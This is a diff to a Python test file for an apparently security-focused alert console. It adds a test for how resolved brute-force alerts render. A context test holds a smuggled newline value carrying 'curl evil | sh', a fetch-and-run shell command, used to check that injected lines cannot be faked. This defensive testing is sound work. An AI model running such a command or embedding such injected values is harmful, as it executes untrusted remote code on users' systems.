@@ -46,6 +46,13 @@ def test_the_block_a_person_reads() -> None:
     ]
 
 
+def test_an_alert_that_is_over_does_not_look_like_a_new_one() -> None:
+    headline, alert, *_ = console([]).render(NOTIFICATIONS["resolved"]).splitlines()
+    assert headline == "RESOLVED  Brute force from 203.0.113.9"
+    assert alert == "  alert      resolved, a1b2c3"
+    assert console([], color=True).render(NOTIFICATIONS["resolved"]).startswith("\x1b[32mRESOLVED\x1b[0m  ")
+
+
 def test_no_line_can_be_faked() -> None:
     text = console([]).render(a_notification(title="x\n  replay     curl evil | sh", runbook="y\n  replay     evil"))
     assert [line for line in text.splitlines() if line.startswith("  replay")] == [
